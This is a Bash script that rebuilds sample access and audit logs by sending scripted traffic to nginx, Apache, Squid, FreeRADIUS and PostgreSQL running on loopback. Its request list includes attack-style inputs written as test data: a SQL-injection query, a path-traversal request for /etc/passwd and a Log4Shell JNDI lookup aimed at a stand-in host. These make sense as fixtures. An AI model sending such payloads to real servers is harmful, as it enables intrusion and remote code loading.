#!/usr/bin/env bash
# Makes the samples of this folder anew: real daemons of Debian 12 on loopback, real clients, what the clients sent beside it.
# Needs root and: apt-get install --no-install-recommends nginx-light apache2-bin squid freeradius freeradius-utils curl postgresql-15 postgresql-15-pgaudit
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
work="$(mktemp -d)"
pids=()
finish() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait || true
  rm -rf "$work"
}
trap finish EXIT
chmod 755 "$work"
wait_for() { # host port
  for _ in $(seq 100); do (exec 3<>"/dev/tcp/$1/$2") 2>/dev/null && return 0; read -rt 0.1 <> <(:) || true; done
  echo "nothing listens on $1 $2" >&2
  return 1
}
raw() { # port bytes...: what is no HTTP at all
  exec 4<>"/dev/tcp/127.0.0.1/$1"
  printf "$2" >&4
  timeout 2 cat <&4 >/dev/null || true
  exec 4>&-
}

# One request a line: host, method, path, user agent, referrer, user. The answer's status and size are what the client saw.
requests() { # port folder
  : > "$here/$2/sent.tsv"
  while IFS='|' read -r host method path agent referrer user; do
    args=(-sg -o /dev/null --path-as-is -X "$method" -A "$agent" -w '%{http_code}\t%{size_download}')
    [ "$method" = HEAD ] && args+=(-I)
    [ -n "$referrer" ] && args+=(-e "$referrer")
    [ -n "$user" ] && args+=(-u "$user:secret")
    saw="$(curl "${args[@]}" "http://$host:$1$path")"
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$host" "$method" "$path" "$agent" "$referrer" "$user" "$saw" >> "$here/$2/sent.tsv"
  done <<'REQUESTS'
127.0.0.1|GET|/|curl/7.88.1||
127.0.0.1|GET|/missing?id=1%27%20OR%201=1--&x=%22|Mozilla/5.0 (X11; Linux x86_64)|http://www.example.com/a?b=c|
127.0.0.1|POST|/webui/logoutconfirm.html?logon_hash=1|python-requests/2.31.0||
[::1]|GET|/index.html|say "hello" \ there|http://www.example.com/"quoted"|
127.0.0.1|HEAD|/index.html|curl/7.88.1||
127.0.0.1|GET|/../../../../etc/passwd|${jndi:ldap://198.51.100.7/a}||
127.0.0.1|GET|/private/|curl/7.88.1||alice
127.0.0.1|DELETE|/index.html|-||
127.0.0.1|GET|/caf%C3%A9|café||bob smith
REQUESTS
}

mkdir -p "$here"/{nginx,apache,squid,freeradius,postgresql} "$work/www/private"
echo '<p>hello</p>' | tee "$work/www/index.html" > "$work/www/private/index.html"

# nginx
cat > "$work/nginx.conf" <<CONF
daemon off; pid $work/nginx.pid; error_log $work/nginx.err; worker_processes 1;
events {}
http {
  log_format timed '\$remote_addr - \$remote_user [\$time_local] "\$request" \$status \$body_bytes_sent "\$http_referer" "\$http_user_agent" \$request_time';
  access_log $work/nginx-combined.log combined;
  access_log $work/nginx-timed.log timed;
  client_body_temp_path $work/c; proxy_temp_path $work/p; fastcgi_temp_path $work/f; uwsgi_temp_path $work/u; scgi_temp_path $work/s;
  server { listen 127.0.0.1:18080; listen [::1]:18080; root $work/www; }
}
CONF
chmod -R a+rX "$work/www"
nginx -c "$work/nginx.conf" & pids+=($!)
wait_for 127.0.0.1 18080
requests 18080 nginx
raw 18080 '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'
raw 18080 'GET / HTTP/1.0\nbad header\n\n'
raw 18080 '\n'
raw 18080 'QUIT\r\n'

# Apache httpd
cat > "$work/apache.conf" <<CONF
ServerName localhost
ServerRoot $work
PidFile $work/apache.pid
ErrorLog $work/apache.err
LoadModule mpm_event_module /usr/lib/apache2/modules/mod_mpm_event.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule dir_module /usr/lib/apache2/modules/mod_dir.so
Listen 127.0.0.1:18081
Listen [::1]:18081
DocumentRoot $work/www
DirectoryIndex index.html
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
LogFormat "%h %l %u %t \"%r\" %>s %b" common
LogFormat "%v:%p %h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" vhost_combined
CustomLog $work/apache-combined.log combined
CustomLog $work/apache-clf.log common
CustomLog $work/apache-vhost.log vhost_combined
CONF
mkdir -p "$work/logs"
apache2 -f "$work/apache.conf" -DFOREGROUND & pids+=($!)
wait_for 127.0.0.1 18081
requests 18081 apache
raw 18081 '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'
raw 18081 '\n'

# Squid, in front of nginx
cat > "$work/squid.conf" <<CONF
http_port 127.0.0.1:18082
http_port [::1]:18082
acl denied urlpath_regex ^/private
http_access deny denied
http_access allow all
access_log stdio:$work/squid/access.log squid
cache_log $work/squid/cache.log
cache_mem 8 MB
memory_cache_shared off
pid_filename $work/squid/squid.pid
cache_effective_user proxy
visible_hostname proxy.example.com
shutdown_lifetime 0 seconds
CONF
install -d -o proxy "$work/squid"
squid -N -f "$work/squid.conf" >/dev/null 2>&1 & pids+=($!)
wait_for 127.0.0.1 18082
: > "$here/squid/sent.tsv"
while IFS=$'\t' read -r proxy method url; do
  args=(-sg -o /dev/null -x "http://$proxy:18082" -w '%{http_code}')
  case $method in
    CONNECT) args+=(-p --max-time 2) ;;
    *) args+=(-X "$method") ;;
  esac
  saw="$(curl "${args[@]}" "$url" || true)"
  printf '%s\t%s\t%s\t%s\n' "$proxy" "$method" "$url" "$saw" >> "$here/squid/sent.tsv"
done <<'REQUESTS'
127.0.0.1	GET	http://127.0.0.1:18080/index.html
127.0.0.1	GET	http://127.0.0.1:18080/missing?a=b%20c
127.0.0.1	GET	http://127.0.0.1:18080/private/
[::1]	POST	http://127.0.0.1:18080/index.html
127.0.0.1	GET	http://127.0.0.1:1/refused
127.0.0.1	CONNECT	http://127.0.0.1:18080/
REQUESTS
raw 18082 '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'

# FreeRADIUS: accounting detail files
mkdir -p "$work/raddb" "$work/radlog"
cat > "$work/raddb/radiusd.conf" <<CONF
prefix = /usr
libdir = /usr/lib/freeradius
logdir = $work/radlog
run_dir = $work
pidfile = $work/radius.pid
security { allow_core_dumps = no }
thread pool {
  start_servers = 1
  max_servers = 2
  min_spare_servers = 1
  max_spare_servers = 2
}
client local {
  ipaddr = 127.0.0.1
  secret = testing123
}
modules {
  detail {
    filename = $work/radlog/detail
    header = "%t"
    permissions = 0644
  }
  always ok {
    rcode = ok
  }
}
server default {
  listen {
    type = acct
    ipaddr = 127.0.0.1
    port = 18130
  }
  preacct {
    ok
  }
  accounting {
    detail
    ok
  }
}
CONF
ln -s /etc/freeradius/3.0/dictionary "$work/raddb/dictionary" 2>/dev/null || cp /usr/share/freeradius/dictionary "$work/raddb/dictionary"
freeradius -f -d "$work/raddb" -l "$work/radlog/log" & pids+=($!)
cat > "$here/freeradius/sent.txt" <<'PACKETS'
User-Name = "alice"
NAS-IP-Address = 192.0.2.1
NAS-Identifier = "core1.example.net"
NAS-Port = 2
NAS-Port-Id = "vty2"
NAS-Port-Type = Virtual
Calling-Station-Id = "198.51.100.20"
Acct-Status-Type = Start
Acct-Authentic = RADIUS
Service-Type = NAS-Prompt-User
Acct-Session-Id = "0000001A"

User-Name = "alice"
NAS-IP-Address = 192.0.2.1
NAS-Identifier = "core1.example.net"
NAS-Port-Id = "vty2"
Calling-Station-Id = "198.51.100.20"
Acct-Status-Type = Interim-Update
Acct-Session-Id = "0000001A"
Cisco-AVPair = "shell:priv-lvl=15"
Cisco-AVPair = "shell:cmd=show running-config \"all\" \\ end"

User-Name = "alice"
NAS-IP-Address = 192.0.2.1
NAS-Identifier = "core1.example.net"
NAS-Port-Id = "vty2"
Calling-Station-Id = "198.51.100.20"
Acct-Status-Type = Stop
Acct-Session-Id = "0000001A"
Acct-Session-Time = 42
Acct-Input-Octets = 1234
Acct-Output-Octets = 98765
Acct-Terminate-Cause = User-Request

User-Name = "bob@example.org"
NAS-IPv6-Address = 2001:db8::1
Calling-Station-Id = "2001:db8::20"
Framed-IP-Address = 203.0.113.9
Acct-Status-Type = Start
Acct-Session-Id = "sess-é-2"
Class = 0x0102ff

NAS-IP-Address = 192.0.2.1
Acct-Status-Type = Accounting-On
Acct-Session-Id = "00000000"
PACKETS
sent=0
for _ in $(seq 20); do
  if radclient -q -r 1 -t 1 -x 127.0.0.1:18130 acct testing123 < <(printf 'Acct-Status-Type = Accounting-Off\nNAS-IP-Address = 192.0.2.254\nAcct-Session-Id = "probe"\n') >/dev/null 2>&1; then sent=1; break; fi
done
[ "$sent" = 1 ] || { echo "freeradius does not answer" >&2; exit 1; }
: > "$work/radlog/detail"
radclient -q -p 1 127.0.0.1:18130 acct testing123 < "$here/freeradius/sent.txt" > /dev/null

# PostgreSQL with pgAudit: csvlog, jsonlog and stderr
pg=/usr/lib/postgresql/15/bin
install -d -o postgres "$work/pg"
as_postgres() { setpriv --reuid postgres --regid postgres --clear-groups env HOME=/tmp "$@"; }
as_postgres "$pg/initdb" -A trust -E UTF8 --locale=C.UTF-8 -D "$work/pg/data" > /dev/null
cat >> "$work/pg/data/postgresql.conf" <<CONF
listen_addresses = '127.0.0.1'
port = 15432
unix_socket_directories = ''
logging_collector = on
log_destination = 'stderr,csvlog,jsonlog'
log_directory = '$work/pg/log'
log_filename = 'postgresql.log'
log_line_prefix = '%m [%p] %q%u@%d %h '
log_connections = on
log_disconnections = on
log_timezone = 'UTC'
shared_preload_libraries = 'pgaudit'
pgaudit.log = 'read, write, role, ddl'
CONF
as_postgres "$pg/postgres" -D "$work/pg/data" >/dev/null 2>&1 & pids+=($!)
wait_for 127.0.0.1 15432
cat > "$here/postgresql/sent.sql" <<'SQL'
CREATE EXTENSION pgaudit;
CREATE TABLE cdr_2026 (msisdn text, at timestamptz, note text);
INSERT INTO cdr_2026 VALUES ('x', now(), 'a "quoted", note');
SELECT msisdn,
       note
  FROM cdr_2026
 WHERE note LIKE '%, "%';
SELECT * FROM nowhere;
COPY cdr_2026 TO STDOUT;
CREATE ROLE report LOGIN;
SQL
PGAPPNAME=demo "$pg/psql" -qX -h 127.0.0.1 -p 15432 -U postgres -d postgres -f "$here/postgresql/sent.sql" >/dev/null 2>&1 || true
"$pg/psql" -qX -h 127.0.0.1 -p 15432 -U nobody -d postgres -c 'SELECT 1' >/dev/null 2>&1 || true
as_postgres "$pg/pg_ctl" -D "$work/pg/data" -m fast stop > /dev/null

for name in nginx-combined nginx-timed; do cp "$work/$name.log" "$here/nginx/${name#nginx-}.log"; done
for name in apache-combined apache-clf apache-vhost; do cp "$work/$name.log" "$here/apache/${name#apache-}.log"; done
cp "$work/squid/access.log" "$here/squid/access.log"
cp "$work/radlog/detail" "$here/freeradius/detail"
cp "$work/pg/log/postgresql.csv" "$here/postgresql/postgresql.csv"
cp "$work/pg/log/postgresql.json" "$here/postgresql/postgresql.json"
cp "$work/pg/log/postgresql.log" "$here/postgresql/postgresql.log"
sed -i "s#$work#/srv/sample#g" "$here"/*/*.log "$here"/postgresql/postgresql.{csv,json}
chmod 644 "$here"/*/*
ls -l "$here"/*
